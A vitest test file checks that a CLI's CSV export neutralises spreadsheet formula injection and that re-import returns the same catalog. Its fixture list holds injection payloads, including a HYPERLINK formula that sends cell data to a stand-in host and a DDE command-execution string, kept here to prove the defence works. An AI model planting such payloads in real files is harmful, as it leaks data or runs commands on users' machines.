// Issue 13 item 9: `pathwise export csv` (the real built CLI) neutralises formulas as OWASP recommends:
// a cell beginning with =, +, -, @, a tab or a carriage return gets a leading single quote (and is
// quoted when it holds a comma, quote or line break), plain numbers stay numbers, and `pathwise
// import csv` of the export gives back the catalog exactly.
import { beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { parseCatalog, type Catalog } from '@pathwise/core';
import { requireBuiltCli, runCli, tempDir, writeTemp } from '../cli/run-cli.js';

beforeAll(() => requireBuiltCli());

const dangerous = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  "'=already quoted",
];

function catalogWithFormulas(): Catalog {
  return {
    format: 'pathwise.catalog/v1',
    currency: 'USD',
    credentials: dangerous.map((text, i) => ({
      id: `c${i}`,
      name: text,
      kind: 'course',
      cost: i,
      durationWeeks: 1,
      description: text,
      'x-note': text,
    })),
  } as Catalog;
}

describe('pathwise export csv: formulas', () => {
  it('prefixes every formula cell with a quote, and import csv reads the catalog back', async () => {
    const dir = tempDir();
    const catalog = catalogWithFormulas();
    const file = writeTemp(dir, 'catalog.json', JSON.stringify(catalog));
    const run = await runCli(['export', 'csv', '--catalog', file]);
    expect(run.status, run.stderr).toBe(0);
    const rows = parse(run.stdout, { relax_column_count: true }) as string[][];
    const header = rows[0]!;
    for (const [r, text] of dangerous.entries()) {
      const row = rows[r + 1]!;
      for (const column of ['name', 'description']) {
        expect(row[header.indexOf(column)]).toBe(`'${text}`);
      }
      // An x- cell is JSON when the text has outer whitespace ("\t=1+1"), else the quoted text.
      expect([`'${text}`, JSON.stringify(text)]).toContain(row[header.indexOf('x-note')]);
      expect(row[header.indexOf('cost')]).toBe(String(r)); // numbers stay numbers
    }
    // No cell of the file, as a spreadsheet reads it, starts a formula.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+@\t\r]|^-\D/);

    const csv = writeTemp(dir, 'catalog.csv', run.stdout);
    const back = await runCli(['import', 'csv', csv, '--currency', 'USD']);
    expect(back.status, back.stderr).toBe(0);
    const imported = parseCatalog(JSON.parse(back.stdout));
    expect(imported.credentials.map((c) => [c.name, c.description, c['x-note']])).toEqual(
      dangerous.map((t) => [t, t, t]),
    );
  });
});
